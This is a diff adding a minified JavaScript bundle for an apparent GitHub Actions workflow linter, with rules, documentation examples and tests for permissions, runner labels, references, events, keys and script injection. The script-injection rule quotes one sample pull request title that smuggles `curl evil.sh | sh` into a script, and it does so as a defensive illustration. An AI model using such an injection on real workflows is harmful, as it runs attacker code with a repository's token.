+      - uses: actions/cache@v4
+        with:
+          path: x
+          key: k
+      - uses: actions/create-release@v1
+`},{name:"current majors, SHAs, branches and unknown actions",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+      - uses: actions/setup-node@main
+      - uses: someone/old-thing@v1
+`,expect:[]}]},gy=P1;var q1={id:"permissions",language:"workflow",severity:"error",compat:{actionlint:"permissions"},docs:{summary:"`permissions:` with an unknown scope or a level the scope does not take (`id-token` is `write` or `none`, `models` is `read` or `none`; the whole block is `read-all`, `write-all` or a mapping).",why:"GitHub rejects the workflow. A misspelt scope (`pull-request`, `content`) would otherwise leave the token without the access the job needs.",bad:`on: push
+permissions:
+  content: read
+  id-token: read
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`,good:`on: push
+permissions:
+  contents: read
+  id-token: write
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`},check(n){fe(n,"permissions")},tests:[{name:"scopes and levels",input:`on: push
+permissions:
+  contents: foo
+  unknown: read
+  id-token: read
+  models: write
+  pages: READ
+  CHECKS: write
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    permissions: read
+    steps:
+      - run: echo
+`,expect:[{line:3,col:13,message:'"foo" is invalid as permission of scope "contents". available values are "read", "write", "none"'},{line:4,col:3,message:'unknown permission scope "unknown"'},{line:5,col:13,message:'available values are "write", "none"'},{line:6,col:11,message:'available values are "read", "none"'},{line:7,col:10,message:'"READ" is invalid'},{line:8,col:3,message:'Did you mean "checks"'},{line:12,col:18,message:'"read" is invalid for permission for all the scopes'}]},{name:"fix to the right case",input:`on: push
+permissions:
+  pages: Write
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:3,message:'"Write" is invalid'}],fixed:`on: push
+permissions:
+  pages: write
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},{name:"valid permissions",input:`on: push
+permissions: read-all
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: write
+      id-token: write
+      pull-requests: none
+      security-events: read
+      attestations: write
+    steps:
+      - run: echo
+  b:
+    runs-on: ubuntu-latest
+    permissions: {}
+    steps:
+      - run: echo
+`,expect:[]}]},my=q1;var Mo=U(ke());var U1=/^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+\/(?:[^@\s]+\/)?[^@/\s]+\.ya?ml@[^@\s]+$/,hy=/^\.\/[^@\s]+\.ya?ml$/,H1={id:"reusable-workflow",language:"workflow",severity:"error",compat:{actionlint:"workflow-call"},docs:{summary:"A job's `uses:` must be `owner/repo/path/to/workflow.yml@ref` or `./.github/workflows/workflow.yml`; a local called workflow must have `on: workflow_call`, and the call must pass its required inputs and secrets and no unknown ones.",why:"GitHub rejects the calling workflow when the reference is malformed or the inputs do not match, and only tells you after the push. Checking against the callee in the same repository catches renamed or newly required inputs.",bad:`on: push
+jobs:
+  deploy:
+    uses: ./.github/workflows/deploy.yml
+    with:
+      enviroment: prod
+`,good:`on: push
+jobs:
+  deploy:
+    uses: ./.github/workflows/deploy.yml
+    with:
+      environment: prod
+`,files:{".github/workflows/deploy.yml":`on:
+  workflow_call:
+    inputs:
+      environment:
+        type: string
+        required: true
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - run: ./deploy.sh
+`}},check({model:n,files:e,path:t,report:s}){let i=Tn(t,e);for(let r of ne(n).jobs){if(r.uses===void 0||!r.usesNode||r.uses.includes("${{"))continue;let o=r.uses.trim(),a=n.rangeOf(r.usesNode);if(o==="")continue;if(o.startsWith("./")?!hy.test(o):!U1.test(o)){s({message:`reusable workflow call ${JSON.stringify(o)} at "uses" is not following the format "owner/repo/path/to/workflow.yml@ref" nor "./path/to/workflow.yml". see https://docs.github.com/en/actions/learn-github-actions/reusing-workflows for more details`,range:a});continue}if(!hy.test(o)||!i)continue;let c=Ch(i,o,e);if(!c){s({message:`reusable workflow ${JSON.stringify(o)} does not exist in this repository`,range:a});continue}if(!c.callable){s({message:`workflow ${JSON.stringify(o)} cannot be called: its "on:" has no "workflow_call" trigger`,range:a});continue}let l=(u,p,d)=>{let f=L(n,r.pairs.get(u)?.value);if(u==="secrets"&&(0,Mo.isScalar)(f)&&f.value==="inherit")return;let m=new Map;if((0,Mo.isMap)(f))for(let h of f.items){let y=_(h.key);y!==void 0&&m.set(y.toLowerCase(),h)}let g=[...p.values()].map(h=>h.name);for(let[h,y]of m){if(p.has(h))continue;let w=_(y.key),k=n.keyRange(y),v=se(w,g.filter(O=>!m.has(O.toLowerCase())));s({message:`${d} ${JSON.stringify(w)} is not defined in ${JSON.stringify(o)} reusable workflow. ${g.length?`defined ${d}s are ${g.map(O=>JSON.stringify(O)).join(", ")}`:`it defines no ${d}s`}`+(v?`. Did you mean ${JSON.stringify(v)}?`:""),range:k,fixes:v?[{title:`Change to "${v}"`,preferred:!0,edits:[{range:k,newText:v}]}]:void 0})}for(let h of p.values())!h.required||h.hasDefault||m.has(h.name.toLowerCase())||s({message:`${d} ${JSON.stringify(h.name)} is required by ${JSON.stringify(o)} reusable workflow, but it is not given in "${u}:"`,range:a})};l("with",c.inputs,"input"),l("secrets",c.secrets,"secret")}},tests:[{name:"malformed references",input:`on: push
+jobs:
+  a:
+    uses: owner/repo@main
+  b:
+    uses: ./foo/bar/workflow.yml@main
+  c:
+    uses: foo/workflow.yml@main
+  d:
+    uses: foo/bar/workflow.yml
+`,expect:[{line:4,col:11,message:"is not following the format"},{line:6,col:11,message:"is not following the format"},{line:8,col:11,message:"is not following the format"},{line:10,col:11,message:"is not following the format"}]},{name:"inputs and secrets checked against the local callee",input:`on: push
+jobs:
+  a:
+    uses: ./.github/workflows/called.yml
+    with:
+      nmae: x
+    secrets:
+      tokn: \${{ secrets.T }}
+  b:
+    uses: ./.github/workflows/missing.yml
+  c:
+    uses: ./.github/workflows/plain.yml
+`,files:{".github/workflows/called.yml":`on:
+  workflow_call:
+    inputs:
+      name:
+        type: string
+        required: true
+      opt:
+        type: string
+    secrets:
+      token:
+        required: true
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,".github/workflows/plain.yml":`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},expect:[{line:4,col:11,message:'input "name" is required'},{line:4,col:11,message:'secret "token" is required'},{line:6,col:7,message:'input "nmae" is not defined'},{line:8,col:7,message:'secret "tokn" is not defined'},{line:10,col:11,message:"does not exist"},{line:12,col:11,message:'no "workflow_call" trigger'}]},{name:"valid calls",input:`on: push
+jobs:
+  a:
+    uses: ./.github/workflows/called.yml
+    with:
+      NAME: x
+    secrets: inherit
+  b:
+    uses: octo-org/example-repo/.github/workflows/reusable.yml@v1
+    with:
+      anything: 1
+`,files:{".github/workflows/called.yml":`on:
+  workflow_call:
+    inputs:
+      name:
+        type: string
+        required: true
+    secrets:
+      token:
+        required: true
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},expect:[]}]},yy=H1;var Se=U(ke());var _n=["ubuntu-latest","ubuntu-24.04","ubuntu-22.04","ubuntu-slim","ubuntu-24.04-arm","ubuntu-22.04-arm","windows-latest","windows-2025","windows-2022","windows-11-arm","macos-latest","macos-26","macos-15","macos-14","macos-13","macos-15-intel","macos-latest-large","macos-26-large","macos-15-large","macos-14-large","macos-13-large","macos-latest-xlarge","macos-26-xlarge","macos-15-xlarge","macos-14-xlarge","macos-13-xlarge"],by=["ubuntu-16.04","ubuntu-18.04","ubuntu-20.04","windows-2016","windows-2019","macos-10.15","macos-11","macos-12","macos-12-xl","macos-13-xl"],Xu=["self-hosted","linux","windows","macos","x64","x86","arm","arm32","arm64"];function Zu(n){let e=n.toLowerCase();if(e==="linux"||e.startsWith("ubuntu-"))return"linux";if(e==="windows"||e.startsWith("windows-"))return"windows";if(e==="macos"||e.startsWith("macos-"))return"macos"}function Y1(n,e){return new RegExp("^"+n.replace(/[.+^${}()|[\]\\]/g,"\\$&").replace(/\*/g,".*").replace(/\?/g,".")+"$","i").test(e)}function B1(n,e){let t=e.runsOn;(0,Se.isMap)(t)&&(t=L(n,z(n,t).get("labels")?.value));let s=(0,Se.isSeq)(t)?t.items.map(o=>L(n,o)):t!==void 0?[t]:[],i=[],r=[];for(let o of s){let a=_(o);if(a===void 0||!(0,Se.isScalar)(o))continue;let c=/^\$\{\{\s*matrix\.([A-Za-z_][\w-]*)\s*\}\}$/.exec(a.trim());if(c){let l=W1(n,e,c[1]);l&&r.push(l);continue}if(a.includes("${{"))return[];i.push({name:a,range:n.rangeOf(o)})}return r.length?r[0].map(o=>[...i,o]):[i]}function W1(n,e,t){let s=L(n,e.pairs.get("strategy")?.value);if(!(0,Se.isMap)(s))return;let i=L(n,z(n,s).get("matrix")?.value);if(!(0,Se.isMap)(i))return;let r=z(n,i),o=[],a=L(n,r.get(t)?.value);if((0,Se.isSeq)(a))for(let l of a.items){let u=L(n,l),p=_(u);if(p===void 0||!(0,Se.isScalar)(u)||p.includes("${{"))return;o.push({name:p,range:n.rangeOf(u)})}else if(a!==void 0)return;let c=L(n,r.get("include")?.value);if((0,Se.isSeq)(c))for(let l of c.items){let u=L(n,l);if(!(0,Se.isMap)(u))continue;let p=L(n,z(n,u).get(t)?.value),d=_(p);if(d!==void 0&&(0,Se.isScalar)(p)&&!d.includes("${{"))o.push({name:d,range:n.rangeOf(p)});else if(p!==void 0)return}else if(c!==void 0)return;return o.length?o:void 0}var G1={id:"runner-label",language:"workflow",severity:"warning",compat:{actionlint:"runner-label"},docs:{summary:"`runs-on` labels that no GitHub-hosted runner has (a typo or a retired image such as `ubuntu-20.04` or `macos-12`), and GitHub-hosted labels combined so that no runner can match them all (an error). Add your self-hosted and larger-runner labels with the `runnerLabels` option.",why:"A job whose labels match no runner waits in the queue until it times out (24 hours) instead of failing. Listing several operating systems in one `runs-on` does not run the job on each: use a matrix.",bad:`on: push
+jobs:
+  test:
+    runs-on: [ubuntu-latest, windows-latest]
+    steps:
+      - run: make test
+  old:
+    runs-on: ubuntu-20.04
+    steps:
+      - run: make test
+`,good:`on: push
+jobs:
+  test:
+    strategy:
+      matrix:
+        os: [ubuntu-latest, windows-latest]
+    runs-on: \${{ matrix.os }}
+    steps:
+      - run: make test
+  old:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make test
+`},check({model:n,options:e,report:t}){let s=[..._n,...Xu],i=e.runnerLabels??[],r=c=>i.some(l=>Y1(l,c)),o=new Set,a=(c,l,u,p)=>{let d=`${c.start.line}:${c.start.character}:${l}`;o.has(d)||(o.add(d),t({message:l,range:c,severity:u,fixes:p?[{title:`Change to "${p}"`,preferred:!0,edits:[{range:c,newText:p}]}]:void 0}))};for(let c of ne(n).jobs)if(!(c.uses||!c.runsOn)&&!((0,Se.isMap)(c.runsOn)&&z(n,c.runsOn).has("group")))for(let l of B1(n,c)){let u=l.some(f=>f.name.toLowerCase()==="self-hosted");for(let f of l){let m=f.name.toLowerCase();if(f.name===""||r(f.name))continue;if(by.includes(m)){a(f.range,`label ${JSON.stringify(f.name)} is unknown: GitHub has retired this runner image, so the job would never start`,"error");continue}if(u||s.includes(m))continue;let g=se(f.name,_n);a(f.range,`label ${JSON.stringify(f.name)} is unknown. available labels are ${_n.map(h=>JSON.stringify(h)).join(", ")}. if it is a custom label for a self-hosted or larger runner, add it to the runnerLabels option`+(g?`. Did you mean ${JSON.stringify(g)}?`:""),void 0,g)}if(u)continue;let p=l.filter(f=>_n.includes(f.name.toLowerCase()));if(!p.length)continue;let d=p[0];for(let f of l){if(f===d)continue;let m=f.name.toLowerCase(),g=Zu(m);(_n.includes(m)||Xu.includes(m))&&g&&g!==Zu(d.name)&&a(f.range,`label ${JSON.stringify(f.name)} conflicts with label ${JSON.stringify(d.name)} defined at line:${d.range.start.line+1},col:${d.range.start.character+1}. note: to run your job on each of them, use a matrix`,"error")}}},tests:[{name:"unknown and retired labels",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-lastest
+    steps:
+      - run: echo
+  b:
+    runs-on: macos-12
+    steps:
+      - run: echo
+`,expect:[{line:4,col:14,message:'label "ubuntu-lastest" is unknown',severity:"warning"},{line:8,col:14,message:"retired",severity:"error"}],fixed:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+  b:
+    runs-on: macos-12
+    steps:
+      - run: echo
+`},{name:"conflicting labels, also through a matrix",input:`on: push
+jobs:
+  a:
+    runs-on: [ubuntu-latest, windows-latest]
+    steps:
+      - run: echo
+  b:
+    strategy:
+      matrix:
+        os: [windows-latest, windows]
+    runs-on: [ubuntu-latest, '\${{ matrix.os }}']
+    steps:
+      - run: echo
+`,expect:[{line:4,col:30,message:'label "windows-latest" conflicts with label "ubuntu-latest" defined at line:4,col:15',severity:"error"},{line:10,col:14,message:'conflicts with label "ubuntu-latest" defined at line:11,col:15'},{line:10,col:30,message:'label "windows" conflicts'}]},{name:"matrix values are checked",input:`on: push
+jobs:
+  a:
+    strategy:
+      matrix:
+        os: [ubuntu-latest, macos-lates]
+    runs-on: \${{ matrix.os }}
+    steps:
+      - run: echo
+`,expect:[{line:6,col:29,message:'Did you mean "macos-latest"'}]},{name:"self-hosted, groups, custom labels, expressions and labels of the same system",options:{runnerLabels:["gpu-*"]},input:`on: push
+jobs:
+  a:
+    runs-on: [self-hosted, linux, my-label]
+    steps:
+      - run: echo
+  b:
+    runs-on:
+      group: big
+      labels: [custom]
+    steps:
+      - run: echo
+  c:
+    runs-on: gpu-a100
+    steps:
+      - run: echo
+  d:
+    runs-on: \${{ inputs.runner }}
+    steps:
+      - run: echo
+  e:
+    runs-on: [ubuntu-24.04-arm]
+    steps:
+      - run: echo
+  f:
+    runs-on: [ubuntu-latest, ubuntu-24.04, linux]
+    steps:
+      - run: echo
+`,expect:[]}]},wy=G1;var V1={id:"undefined-reference",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"An expression reads something that does not exist: an unknown context or function, a step id that is not defined before, a job missing from `needs`, a matrix key or input that is not declared.",why:"GitHub evaluates a missing property to an empty string without any error, so a typo such as `steps.biuld.outputs.version` silently produces an empty value. Dynamic sources (matrices built with `fromJSON`, secrets, variables, outputs of unknown actions) are never reported.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - id: version
+        run: echo "v=1" >> "$GITHUB_OUTPUT"
+      - run: echo \${{ steps.versoin.outputs.v }}
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - id: version
+        run: echo "v=1" >> "$GITHUB_OUTPUT"
+      - run: echo \${{ steps.version.outputs.v }}
+`},check(n){pe(n,"undefined-reference")},tests:[{name:"step defined later",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ steps.later.outputs.x }}
+      - id: later
+        run: echo
+`,expect:[{line:6,col:29,message:"defined later"}]},{name:"needs not listed",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    outputs:
+      v: x
+    steps:
+      - run: echo
+  b:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ needs.a.outputs.v }}
+`,expect:[{line:12,message:'not listed in "needs"'}]},{name:"undeclared matrix key and input",input:`on:
+  workflow_dispatch:
+    inputs:
+      level:
+        type: string
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        os: [ubuntu-latest]
+        include:
+          - extra: 1
+    steps:
+      - run: echo \${{ matrix.os }} \${{ matrix.extra }} \${{ matrix.node }} \${{ inputs.levl }}
+`,expect:[{line:15,message:'property "node" is not defined'},{line:15,message:'property "levl" is not defined'}]},{name:"undefined variable and function",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ foo.bar }} \${{ lower(github.ref) }}
+`,expect:[{line:6,col:23,message:'undefined variable "foo"'},{line:6,message:'undefined function "lower"'}]},{name:"dynamic sources are open",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix: \${{ fromJSON(vars.MATRIX) }}
+    steps:
+      - id: s
+        uses: some/action@v1
+      - run: echo \${{ matrix.anything }} \${{ secrets.ANY }} \${{ vars.X }} \${{ steps.s.outputs.whatever }} \${{ github.event.pull_request.title }} \${{ env.FOO }}
+`,expect:[]}]},vy=V1;var z1={id:"unknown-event",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"An event under `on:` that GitHub does not know (names are case-sensitive and use underscores).",why:"GitHub rejects the workflow, and a near miss such as `pull-request` or `Push` is easy to overlook. The fix offers the nearest event name.",bad:`on:
+  pull-request:
+    branches: [main]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+`,good:`on:
+  pull_request:
+    branches: [main]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+`},check(n){fe(n,"unknown-event")},tests:[{name:"in a mapping, a list and a string",input:`on:
+  SCHEDULE:
+    - cron: "0 0 * * *"
+  pull-request:
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:2,col:3,message:'unknown Webhook event "SCHEDULE". Did you mean "schedule"?'},{line:4,col:3,message:'Did you mean "pull_request"'}],fixed:`on:
+  schedule:
+    - cron: "0 0 * * *"
+  pull_request:
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},{name:"list and string forms",input:`on: [push, pullrequest]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:1,col:12,message:'Did you mean "pull_request"'}]},{name:"a string",input:`on: foo
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:1,col:5,message:'unknown Webhook event "foo"'}]},{name:"known events",input:`on:
+  push:
+  pull_request_target:
+    types: [opened]
+  workflow_dispatch:
+  workflow_call:
+  merge_group:
+  repository_dispatch:
+    types: [deploy]
+  schedule:
+    - cron: "0 0 * * 1"
+  issue_comment:
+  release:
+    types: [published]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]}]},ky=z1;var J1={id:"unknown-key",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"Keys GitHub Actions does not know, at any level (workflow, events, jobs, steps, containers, inputs, action metadata), are reported where they are written.",why:"GitHub rejects a workflow with an unknown key, but only after you push it. A typo such as `job:` or `run-on:`, a key of the wrong case (`Runs-On:`), or a key of the other kind of step (`with:` on a `run:` step) is caught here, with a fix to the nearest key. The key sets come from GitHub's own workflow schema.",bad:`on: push
+job:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo hi
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo hi
+`},check(n){fe(n,"unknown-key")},tests:[{name:"typo of jobs",input:`on: push
+job:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:2,col:1,message:'Did you mean "jobs"'}],fixed:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},{name:"unknown key without suggestion",input:`on: push
+foo: bar
+jobs:
+  a:
+    runs-on: x
+    steps: [run: x]
+`,expect:[{line:2,col:1,message:'"foo"'}]},{name:"all known top-level keys",input:`name: ci
+run-name: x
+on: push
+permissions: {}
+env: {}
+defaults:
+  run:
+    shell: bash
+concurrency: x
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]},{name:"typo in a job",input:`on: push
+jobs:
+  a:
+    run-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:4,col:5,message:'unexpected key "run-on" for job "a". expected one of'}],fixed:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},{name:"keys are case-sensitive",input:`on: push
+jobs:
+  a:
+    Runs-On: ubuntu-latest
+    steps:
+      - run: echo
+        SHELL: bash
+`,expect:[{line:4,col:5,message:'did you mean "runs-on"'},{line:7,col:9,message:'did you mean "shell"'}]},{name:"with on a run step, run and shell on an action step",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        with:
+          x: 1
+      - uses: actions/checkout@v4
+        shell: bash
+        working-directory: x
+`,expect:[{line:7,col:9,message:"for step to run shell command"},{line:10,col:9,message:'"shell" is only for steps that run a script'},{line:11,col:9,message:"for step to execute action"}]},{name:"reusable workflow call jobs take only some keys",input:`on: push
+jobs:
+  call:
+    uses: ./.github/workflows/x.yml
+    runs-on: ubuntu-latest
+  build:
+    runs-on: ubuntu-latest
+    with:
+      a: 1
+    steps:
+      - run: echo
+`,files:{".github/workflows/x.yml":`on:
+  workflow_call:
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`},expect:[{line:5,col:5,message:'when a reusable workflow is called with "uses", "runs-on" is not available'},{line:8,col:5,message:'"with" is only available for a reusable workflow call'}]},{name:"nested sections: container, strategy, concurrency, environment, inputs",input:`on:
+  workflow_dispatch:
+    inputs:
+      x:
+        descripton: d
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    container:
+      image: node
+      option: --cpus 1
+    strategy:
+      failfast: false
+    concurrency:
+      group: g
+      cancel: true
+    environment:
+      name: prod
+      URL: https://x
+    steps:
+      - run: echo
+`,expect:[{line:5,col:9,message:'Did you mean "description"'},{line:11,col:7,message:'Did you mean "options"'},{line:13,col:7,message:'Did you mean "fail-fast"'},{line:16,col:7,message:'"cancel"'},{line:19,col:7,message:'did you mean "url"'}]},{name:"anchors and aliases are resolved",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - &s
+        run: echo
+        nme: x
+  b:
+    runs-on: ubuntu-latest
+    steps:
+      - *s
+`,expect:[{line:8,col:9,message:'Did you mean "name"'}]},{name:"action metadata keys",path:"action.yml",input:`name: a
+description: d
+runs:
+  using: node20
+  main: x.js
+brandin: {}
+`,expect:[{line:6,message:'Did you mean "branding"'}]},{name:"composite action steps",path:"action.yml",input:`name: a
+description: d
+runs:
+  using: composite
+  steps:
+    - run: echo
+      shell: bash
+      with: {}
+`,expect:[{line:8,col:7,message:"for step to run shell command"}]},{name:"expressions and free-form sections (env, with, matrix, outputs, services)",input:`on: push
+env:
+  ANY_NAME: 1
+jobs:
+  a:
+    runs-on: \${{ matrix.os }}
+    strategy:
+      matrix:
+        os: [ubuntu-latest]
+        anything: [1, 2]
+    outputs:
+      out: \${{ steps.x.outputs.y }}
+    services:
+      redis:
+        image: redis
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          whatever: 1
+`,expect:[]}]},xy=J1;var K1={id:"untrusted-input",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"A `${{ }}` in a `run:` script (or an `actions/github-script` script) expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages.",why:'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead.',bad:`on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "\${{ github.event.issue.title }}"
+`,good:`on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "$TITLE"
+        env:
+          TITLE: \${{ github.event.issue.title }}
+`},check(n){pe(n,"untrusted-input")},tests:[{name:"titles, commit messages and branch names in scripts",input:`on: pull_request
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo \${{ github.event.pull_request.title }}
+          echo \${{ github.event.commits[0].message }} \${{ github.head_ref }}
+      - uses: actions/github-script@v7
+        with:
+          script: console.log('\${{ github.event.pull_request.body }}')
+`,expect:[{line:7,col:20,message:'"github.event.pull_request.title" is potentially untrusted'},{line:8,col:20,message:"github.event.commits.*.message"},{line:8,message:"github.head_ref"},{line:11,message:"github.event.pull_request.body"}]},{name:"untrusted values through env, and trusted values in scripts",input:`on: pull_request
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "$T" \${{ github.event.pull_request.number }} \${{ github.sha }}
+        env:
+          T: \${{ github.event.pull_request.title }}
+`,expect:[]}]},Ry=K1;var X1={id:"value-type",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"A value has the wrong type or is not one of the values GitHub accepts: a string where a mapping or list is required, `fail-fast: yes`, `timeout-minutes: 0`, an empty string where a name is required, an unknown `runs.using`, and so on. Empty sections are reported as warnings.",why:'GitHub refuses the workflow with "Unexpected value", usually without saying which type it wanted. Values inside `${{ }}` are left to the expression rules.',bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    timeout-minutes: 0
+    strategy:
+      fail-fast: no
+    steps:
+      - run: make
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    timeout-minutes: 10
+    strategy:
+      fail-fast: false
+    steps:
+      - run: make
+`},check(n){fe(n,"value-type")},tests:[{name:"booleans, numbers and positive numbers",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    continue-on-error: maybe
+    timeout-minutes: true
+    strategy:
+      max-parallel: 0
+      fail-fast: \${{ github.ref == 'x' }}
+    steps:
+      - run: echo
+        timeout-minutes: -3.5
+`,expect:[{line:5,col:24,message:"must be a boolean"},{line:6,col:22,message:"must be a number"},{line:8,col:21,message:'value at "max-parallel" must be greater than zero: 0'},{line:12,col:26,message:"greater than zero: -3.5"}]},{name:"mappings, sequences and strings",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    container:
+      image: node
+      ports: 80
+      credentials: me
+    steps:
+      - uses: actions/checkout@v4
+        with: ref
+      - run: echo
+        env:
+          A:
+            nested: map
+`,expect:[{line:7,col:14,message:'"ports" section must be a sequence'},{line:8,col:20,message:'"credentials" section must be a mapping'},{line:11,col:15,message:'"with" section must be a mapping'},{line:15,col:13,message:'"A" section must be a string'}]},{name:"empty strings and sections",input:`on: push
+jobs:
+  a:
+    runs-on: ""
+    needs: []
+    steps:
+      - uses: ""
+`,expect:[{line:4,col:14,message:"should not be an empty string"},{line:5,col:12,message:"should not be empty",severity:"warning"},{line:7,col:15,message:"should not be an empty string"}]},{name:"enums with a typo fix",path:"action.yml",input:`name: a
+description: d
+runs:
+  using: node2O
+  main: index.js
+`,expect:[{line:4,col:10,message:'Did you mean "node20"'}],fixed:`name: a
+description: d
+runs:
+  using: node20
+  main: index.js
+`},{name:"valid values, numbers as strings and expressions",input:`on: push
+env:
+  N: 1
+  B: true
+jobs:
+  a:
+    runs-on: [self-hosted, linux]
+    timeout-minutes: \${{ inputs.t }}
+    continue-on-error: true
+    strategy:
+      matrix: \${{ fromJSON(needs.x.outputs.m) }}
+    steps:
+      - run: echo
+        timeout-minutes: 5
+`,expect:[]}]},Oy=X1;var Ke=U(ke());var Z1={id:"yaml-anchor",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"YAML anchors GitHub Actions does not handle: the merge key `<<` (not supported), recursive aliases, and anchors that are never used (a warning).",why:"GitHub supports anchors and aliases but not the `<<` merge key, so a workflow that works with other YAML tools is rejected. An unused anchor is usually a forgotten alias.",bad:`on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    env: &env
+      CI: true
+    steps:
+      - run: make test
+  lint:
+    runs-on: ubuntu-latest
+    env:
+      <<: *env
+      LINT: true
+    steps:
+      - run: make lint
+`,good:`on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    env: &env
+      CI: true
+    steps:
+      - run: make test
+  lint:
+    runs-on: ubuntu-latest
+    env: *env
+    steps:
+      - run: make lint
+`},check(n){fe(n,"yaml-anchor");let{model:e}=n;if(e.errors.length)return;let t=new Map,s=new Set;(0,Ke.visit)(e.doc,{Alias(i,r){let o=r.resolve(e.doc);o&&s.add(o)},Node(i,r){if(((0,Ke.isMap)(r)||(0,Ke.isSeq)(r)||(0,Ke.isScalar)(r))&&r.anchor){let o=t.get(r.anchor)??[];o.push(r),t.set(r.anchor,o)}}});for(let[i,r]of t)for(let o of r){if(s.has(o)||(0,Ke.isAlias)(o))continue;let a=e.text.lastIndexOf(`&${i}`,o.range?.[0]??0),c=a>=0?e.lines.range(a,a+i.length+1):e.rangeOf(o);n.report({message:`anchor "${i}" is defined but not used`,range:c,severity:"warning"})}},tests:[{name:"merge keys",input:`on: push
+env: &e
+  A: 1
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    env:
+      <<: *e
+    steps:
+      - run: echo
+`,expect:[{line:8,col:7,message:'does not support the YAML merge key "<<"'}]},{name:"unused anchor",input:`on: push
+jobs:
+  a:
+    runs-on: &r ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:4,col:14,message:'anchor "r" is defined but not used',severity:"warning"}]},{name:"anchors used through aliases",input:`on: push
+jobs:
+  a:
+    runs-on: &r ubuntu-latest
+    steps: &s
+      - run: echo
+  b:
+    runs-on: *r
+    steps: *s
